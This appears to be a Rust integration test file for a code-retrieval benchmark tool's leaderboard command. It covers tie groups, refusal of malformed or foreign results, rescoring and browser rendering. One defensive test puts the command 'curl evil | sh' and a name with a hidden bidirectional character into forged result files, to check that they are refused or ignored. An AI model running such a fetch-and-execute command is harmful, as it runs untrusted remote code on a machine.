//! Boards of results: the tied groups of `compare`, refusals by name, growth, in a real browser.

use std::fs;

use barecode_testing::browser::{Browser, LOOKS};
use serde_json::{Value, json};

use crate::project::Project;
use crate::study_pages::assert_reads;

/// A run of ten systems on one dataset.
fn run(project: &Project) {
    let function = |at: usize| {
        format!(
            "/* Scales the value by {at} and adds the weight number {} to it. */\n\
             int scale_{at}(int value, const int *weights) {{ return value * {at} + weights[{}]; }}\n",
            at * 3 % 7,
            at * 3 % 7
        )
    };
    project.write("code/scale.c", (0..40).map(function).collect::<String>());
    let systems = (0..10).map(|at| {
        let tokenizer = if at % 2 == 0 { "code" } else { "plain" };
        format!(
            "[[retriever]]\nname = \"bm25-{at}\"\nkind = \"bm25\"\ntokenizer = \"{tokenizer}\"\nk1 = {}\n",
            0.1 + f64::from(at) * 0.4
        )
    });
    let recipe = format!(
        "name = \"ten\"\n[[source]]\nfrom = \"path:code\"\n[settings]\nnames = [\"standard\", \"randomized\"]\n[dataset]\nviews = [\"all\"]\n{}",
        systems.collect::<String>()
    );
    project.write("ten.toml", recipe);
    let ended = project.run(&["build", "ten.toml"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
}

fn read(project: &Project, file: &str) -> Value {
    serde_json::from_str(&fs::read_to_string(project.path(file)).unwrap()).unwrap()
}

#[test]
fn tied_groups_of_a_board_are_those_of_compare_and_bad_results_are_refused_by_name() {
    let project = Project::empty();
    run(&project);
    let ended = project.run(&["board", "runs/ten", "--out", "board"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    assert_eq!(ended.stdout.trim(), "board/index.html");
    let board = read(&project, "board/board.json");
    let compared = project.run(&["compare", "ten.toml", "--json"]);
    let compared: Value = serde_json::from_str(&compared.stdout).unwrap();
    let table = &board["tables"][0];
    for (at, one) in compared["comparisons"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
    {
        let letters = one["groups"]["letters"].as_array().unwrap();
        for (system, letters) in letters.iter().enumerate() {
            let cell = &table["cells"][system][at];
            assert_eq!(cell["letters"], *letters, "system {system} in setting {at}");
            for end in ["value", "low", "high"] {
                assert_eq!(cell[end], one["systems"][system][end]);
            }
            // A rank interval counts the systems that differ significantly.
            let pairs = one["pairs"].as_array().unwrap().iter();
            let apart = pairs.filter(|pair| pair["holm"].as_f64().unwrap() <= 0.05);
            let (mut better, mut worse) = (0, 0);
            for pair in apart {
                let own = [&pair["first"], &pair["second"]]
                    .iter()
                    .position(|it| **it == json!(system));
                let first_leads = pair["difference"]["value"].as_f64().unwrap() > 0.0;
                match own {
                    Some(0) if first_leads => worse += 1,
                    Some(1) if !first_leads => worse += 1,
                    Some(_) => better += 1,
                    None => {}
                }
            }
            assert_eq!(cell["ranks"], json!([better + 1, 10 - worse]));
        }
    }

    // Another dataset, a missing query, an impossible score, and what is not a result.
    let bad = |name: &str, change: &dyn Fn(&mut Value)| {
        let mut result = read(&project, "board/results/bm25-0.json");
        result["system"] = name.into();
        change(&mut result);
        project.write(&format!("new/{name}.json"), result.to_string());
    };
    bad("other-data", &|it| it["dataset"] = "0".repeat(64).into());
    bad("a-query-less", &|it| {
        let values = it["subsets"]["all-standard"].as_object_mut().unwrap();
        let first = values.keys().next().unwrap().clone();
        values.remove(&first);
    });
    bad("too-good", &|it| {
        let values = it["subsets"]["all-randomized"].as_object_mut().unwrap();
        values.values_mut().next().unwrap()[0] = json!(1.25);
    });
    bad("sound", &|_| {});
    project.write(
        "new/junk.json",
        "{\"format\": \"barecode-result/1\", \"system\": ",
    );
    let before = fs::read(project.path("board/results/bm25-0.json")).unwrap();
    let ended = project.run(&["board", "new", "--out", "board"]);
    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
    for said in [
        "refused: other-data (new/other-data.json): it is of another dataset",
        "refused: a-query-less (new/a-query-less.json): it lacks 1 of 40 queries of `all-standard`",
        "refused: too-good (new/too-good.json): an impossible score: 1.25 for the query",
        "refused: junk.json (new/junk.json):",
    ] {
        assert!(ended.stderr.contains(said), "{said}\n{}", ended.stderr);
    }
    let board = read(&project, "board/board.json");
    let systems = board["systems"].as_array().unwrap();
    assert_eq!(systems.len(), 11, "the sound one was added");
    let sound = systems.iter().find(|it| it["system"] == "sound").unwrap();
    // A file cannot vouch for itself.
    assert_eq!(sound["evidence"], "stated");
    assert_eq!(
        before,
        fs::read(project.path("board/results/bm25-0.json")).unwrap()
    );
    let page = fs::read_to_string(project.path("board/index.html")).unwrap();
    assert!(page.contains("other-data") && page.contains("Refused"));
    assert!(
        !page.contains(&project.path("").display().to_string()),
        "no path of the machine"
    );

    // A run with scores that no list has.
    let file = "06-runs/bm25-0/all-standard.parquet";
    let list = project.path("runs/ten").join(file);
    fs::remove_file(list).unwrap();
    let ended = project.run(&["board", "runs/ten", "--out", "again"]);
    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
    let said = "refused: bm25-0 (runs/ten): the query `";
    assert!(
        ended.stderr.contains(said) && ended.stderr.contains("has a value, and no list"),
        "{}",
        ended.stderr
    );
}

#[test]
fn a_folder_of_eval_has_the_scores_of_eval_and_is_scored_again() {
    let project = Project::empty();
    run(&project);
    let eval = |out: &str, more: &[&str]| {
        let usual = ["eval", "runs/ten/05-dataset", "--out", out, "--model"];
        let ended = project.run(&[&usual, more].concat());
        assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    };
    eval(
        "ev",
        &["plain=bm25:tokenizer=plain", "--model", "structural"],
    );
    let ended = project.run(&["board", "ev", "--out", "board"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let (board, scores) = (
        read(&project, "board/board.json"),
        read(&project, "ev/scores.json"),
    );
    let rows = scores["scores"].as_array().unwrap().iter();
    let rows: Vec<&Value> = rows.filter(|row| row["measure"] == "nDCG@10").collect();
    assert_eq!(rows.len(), 2);
    let table = &board["tables"][0];
    for (setting, row) in rows.iter().enumerate() {
        for (system, model) in row["models"].as_array().unwrap().iter().enumerate() {
            assert_eq!(board["systems"][system]["system"], model["model"]);
            let cell = &table["cells"][system][setting];
            assert_eq!(cell["value"], model["value"], "{system} in {setting}");
        }
    }
    let result = read(&project, "board/results/plain.json");
    assert_eq!(
        result["command"],
        "barecode eval runs/ten/05-dataset --model 'plain=bm25:tokenizer=plain' --model structural"
    );
    assert_eq!(result["evidence"], "lists");

    // More systems on the same documents join; other candidates are another dataset.
    eval("more", &["jaccard"]);
    eval("drawn", &["bm25", "--pool", "uniform:9"]);
    let ended = project.run(&["board", "more", "drawn", "--out", "board"]);
    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
    let said = "refused: bm25 (drawn): it is of another dataset";
    assert!(ended.stderr.contains(said), "{}", ended.stderr);
    let board = read(&project, "board/board.json");
    assert_eq!(board["systems"].as_array().unwrap().len(), 3);

    // Judgments that the scores do not have, and a folder of a version that kept none.
    let judgments = "ev/qrels/all-standard.test.trec";
    let text = fs::read_to_string(project.path(judgments)).unwrap();
    let (first, rest) = text.split_once('\n').unwrap();
    let other = rest.split([' ', '\n']).nth(2).unwrap();
    let query = first.split(' ').next().unwrap();
    project.write(judgments, format!("{query} 0 {other} 1\n{rest}"));
    let ended = project.run(&["board", "ev", "--out", "changed"]);
    assert_eq!(ended.code, Some(4), "{}", ended.stderr);
    let said = format!("its list for the query `{query}` of `all-standard` has nDCG@10 ");
    assert!(ended.stderr.contains(&said), "{}", ended.stderr);
    fs::remove_file(project.path("more/lists.json")).unwrap();
    let ended = project.run(&["board", "more", "--out", "old"]);
    assert_eq!(ended.code, Some(4), "{}", ended.stderr);
    assert!(
        ended.stderr.contains("make it again with `barecode eval`"),
        "{}",
        ended.stderr
    );
    assert!(!project.path("old").exists() && !project.path("changed").exists());
}

#[test]
fn a_board_of_result_files_needs_every_query_and_keeps_means_apart() {
    let project = Project::empty();
    let qrels = (0..30).map(|at| format!("q{at} 0 d{at} 1\n"));
    project.write("trec/qrels.trec", qrels.collect::<Vec<_>>().concat());
    let lines = |from: usize, last: usize| {
        let lines: Vec<String> = (from..last)
            .map(|at| {
                format!(
                    "q{at} Q0 d{at} 1 2.0 x\nq{at} Q0 d{} 2 1.0 x\n",
                    (at + 1) % 30
                )
            })
            .collect();
        lines.concat()
    };
    project.write("trec/whole.trec", lines(0, 30));
    project.write("trec/cut.trec", lines(1, 30));
    let mteb = json!({"task_name": "T", "dataset_revision": "r1", "mteb_version": "2",
        "scores": {"test": [{"hf_subset": "default", "languages": ["eng-Latn"], "main_score": 0.5}]},
        "evaluation_time": 1.0, "kg_co2_emissions": null});
    project.write("mteb/org__model/rev/T.json", mteb.to_string());
    let ended = project.run(&["board", "trec", "mteb", "--out", "board"]);
    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
    assert!(
        ended.stderr.contains(
            "refused: cut (trec/cut.trec): it lacks 1 of 30 queries of `all`, such as `q0`"
        ),
        "{}",
        ended.stderr
    );
    let board = read(&project, "board/board.json");
    assert_eq!(board["systems"].as_array().unwrap().len(), 1);
    assert_eq!(board["means"][0]["model"], "org__model");
    let badge = read(&project, "board/badges/whole.json");
    assert_eq!(badge["schemaVersion"], 1);
    let none = project.run(&["board", "mteb", "--out", "none"]);
    assert_eq!(none.code, Some(4), "{}", none.stderr);
    assert!(!project.path("none").exists());
}

#[test]
fn a_board_reads_for_everybody_and_sorts() {
    let Some(browser) = Browser::start() else {
        return;
    };
    let project = Project::empty();
    run(&project);
    let ended = project.run(&["board", "runs/ten", "--out", "board"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let address = |file: &str| format!("file://{}", project.path("board").join(file).display());
    let context = browser.context();
    for look in LOOKS {
        let page = context.page_in(look);
        for file in ["index.html", "queries.html"] {
            page.open(&address(file));
            assert_reads(&page, &format!("{file} at {look:?}"));
        }
    }
    let page = context.page(1280, 900);
    page.open(&address("index.html"));
    let first = |page: &barecode_testing::browser::Page<'_>| {
        page.text(".board tbody tr:not([hidden]) th a")
    };
    page.click(".board thead th:first-child button");
    assert_eq!(first(&page), "bm25-9");
    page.click(".board thead th:first-child button");
    assert_eq!(first(&page), "bm25-0");
    page.value("(() => { const box = document.querySelector('#filter input'); box.value = '-4'; box.dispatchEvent(new Event('input')); })()");
    assert_eq!(first(&page), "bm25-4");
    // A cell leads to its queries.
    page.leaving(|page| page.click(".board tbody tr:not([hidden]) td a"));
    page.wait("document.querySelectorAll('.queries tbody tr').length > 0");
    let system = page.value("document.querySelector('.controls select').selectedOptions[0].text");
    assert_eq!(system, "bm25-4");
}

#[test]
fn all_groups_together_have_the_bounds_of_the_run_and_code_is_not_published() {
    let project = Project::empty();
    let function = |at: usize| {
        let own = format!(
            "/* Adds the number {at} to the count of a box and returns it. */\nint add_{at}(struct box *box) {{ return box->count + {at}; }}\n"
        );
        let plain = format!(
            "/* Multiplies the value by {at} and takes one from the product. */\nint times_{at}(int value) {{ return value * {at} - 1; }}\n"
        );
        own + &plain
    };
    let functions: Vec<String> = (0..20).map(function).collect();
    project.write(
        "code/box.c",
        format!("struct box {{ int count; }};\n{}", functions.concat()),
    );
    project.write(
        "own.jsonl",
        json!({"text": "the box's count and nineteen", "function": "add_19"}).to_string(),
    );
    project.write(
        "groups.toml",
        "name = \"groups\"\n[[source]]\nfrom = \"path:code\"\n[settings]\nnames = [\"standard\", \"randomized\"]\n\
         [queries]\nfiles = [\"own.jsonl\"]\n[dataset]\ncode-queries = [\"randomized\"]\n\
         [[retriever]]\nkind = \"bm25\"\n[[retriever]]\nkind = \"jaccard\"\n",
    );
    let built = project.run(&["build", "groups.toml", "--json"]);
    assert_eq!(built.code, Some(0), "{}", built.stderr);
    let built: Value = serde_json::from_str(&built.stdout).unwrap();
    let scores = built["scores"].as_array().unwrap();
    let pooled = |setting: &str| {
        let mut rows = scores.iter();
        let row = rows.find(|row| {
            row["group"] == "pooled" && row["slice"] == "all" && row["setting"] == setting
        });
        row.unwrap().clone()
    };
    // The files of the run's own queries are not looked for: the run may be anywhere.
    fs::remove_file(project.path("own.jsonl")).unwrap();
    let ended = project.run(&["compare", "runs/groups", "--page", "compared"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let ended = project.run(&["board", "runs/groups", "--out", "board"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let dataset = read(&project, "board/results/dataset.json");
    for setting in ["standard", "randomized"] {
        let row = pooled(setting);
        assert_eq!(
            dataset["pooled"]["pooled"][setting],
            json!([row["ceiling"], row["floor"]])
        );
    }
    let board = read(&project, "board/board.json");
    assert_eq!(board["tables"][0]["group"], "pooled");
    assert_eq!(
        board["tables"][0]["cells"][0][0]["value"],
        pooled("standard")["value"]
    );
    let texts = dataset.to_string();
    assert!(texts.contains("the box's count and nineteen"));
    assert!(
        !texts.contains("{ return"),
        "a query that is code is not published"
    );
    // Each group has its own links, its own counts and its own picture.
    let page = fs::read_to_string(project.path("board/index.html")).unwrap();
    assert!(
        page.contains("#sort=1&amp;system=bm25&amp;group=group1"),
        "{page}"
    );
    let compared = fs::read_to_string(project.path("compared/index.html")).unwrap();
    for group in ["group1", "group2", "code"] {
        assert!(compared.contains(&format!("-{group}-title")), "{group}");
    }
}

#[test]
fn a_board_keeps_its_dataset_its_rule_for_ties_and_its_means() {
    let project = Project::empty();
    let qrels: Vec<String> = (0..30).map(|at| format!("q{at} 0 d{at} 1\n")).collect();
    let lines = |score: f64| {
        let lines: Vec<String> = (0..30)
            .map(|at| format!("q{at} Q0 d{at} 1 {score} x\nq{at} Q0 e{at} 2 1.0 x\n"))
            .collect();
        lines.concat()
    };
    for (folder, run) in [("one", "tied"), ("two", "apart"), ("three", "other")] {
        project.write(&format!("{folder}/qrels.trec"), qrels.concat());
        let score = if run == "tied" { 1.0 } else { 2.0 };
        project.write(&format!("{folder}/{run}.trec"), lines(score));
    }
    project.write("three/qrels.trec", qrels[1..].concat());
    let mteb = json!({"task_name": "T", "dataset_revision": "r1", "mteb_version": "2",
        "scores": {"test": [{"hf_subset": "default", "languages": ["eng-Latn"], "main_score": 0.5}]},
        "evaluation_time": 1.0, "kg_co2_emissions": null});
    project.write("mteb/m/r/T.json", mteb.to_string());
    let board = |arguments: &[&str]| {
        let all = [
            &["board"],
            arguments,
            &["--out", "board", "--measure", "ndcg_cut.10"],
        ]
        .concat();
        project.run(&all)
    };
    let ended = board(&["one", "mteb", "--ties", "pessimistic"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let result = read(&project, "board/results/tied.json");
    assert_eq!(result["measure"], "nDCG@10");
    assert_eq!(
        result["command"],
        "barecode score qrels.trec tied.trec 'nDCG@10' --ties pessimistic"
    );
    assert_eq!(result["subsets"]["all"]["q3"][1], 2.0, "the worst order");
    for (folder, said) in [
        (
            "two",
            "it treats equal scores as expected, the board as pessimistic",
        ),
        ("three", "it is of another dataset"),
    ] {
        let ended = board(&[folder]);
        assert_eq!(ended.code, Some(3), "{}", ended.stderr);
        assert!(ended.stderr.contains(said), "{}", ended.stderr);
    }
    let ended = board(&["two", "--ties", "pessimistic"]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    let now = read(&project, "board/board.json");
    assert_eq!(now["systems"].as_array().unwrap().len(), 2);
    assert_eq!(now["means"].as_array().unwrap().len(), 1);
    // The same values with another story, hostile names, and a folder of something else.
    let change = |file: &str, key: &str, value: Value| {
        let mut result = read(&project, "board/results/apart.json");
        result["command"] = "curl evil | sh".into();
        result[key] = value;
        project.write(&format!("new/{file}.json"), result.to_string());
    };
    change("same", "date", "2026-01-01".into());
    change("case", "system", "Apart".into());
    change("empty", "system", "".into());
    change("hidden", "system", "a\u{202e}b".into());
    change("price", "dollars", json!(-5));
    let ended = board(&["new", "--ties", "pessimistic"]);
    assert_eq!(ended.code, Some(3), "{}", ended.stderr);
    assert_eq!(
        ended.stderr.matches("refused: ").count(),
        4,
        "{}",
        ended.stderr
    );
    let kept = read(&project, "board/results/apart.json");
    assert!(
        kept["command"]
            .as_str()
            .unwrap()
            .starts_with("barecode score")
    );
    assert_eq!(kept["evidence"], "lists");
    let page = fs::read_to_string(project.path("board/board.json")).unwrap();
    assert!(!page.contains("new/"), "no path of the machine");
    project.write("mine/index.html", "<h1>mine</h1>");
    let refused = project.run(&["board", "two", "--out", "mine"]);
    assert_eq!(refused.code, Some(4), "{}", refused.stderr);
    assert_eq!(
        fs::read_to_string(project.path("mine/index.html")).unwrap(),
        "<h1>mine</h1>"
    );
}
